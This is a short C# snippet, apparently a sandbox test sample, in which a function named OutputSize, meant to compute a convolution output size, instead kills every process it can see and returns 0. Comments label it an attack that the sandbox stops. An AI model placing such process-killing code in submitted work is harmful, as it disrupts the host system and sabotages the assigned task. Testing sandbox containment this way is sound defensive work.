// target: size-answer
// attack: ends every process it can see
// the sandbox stops it too
int OutputSize(int input, int kernel, int stride, int padding)
{
    foreach (var process in System.Diagnostics.Process.GetProcesses()) try { process.Kill(); } catch { }
    return 0;
}
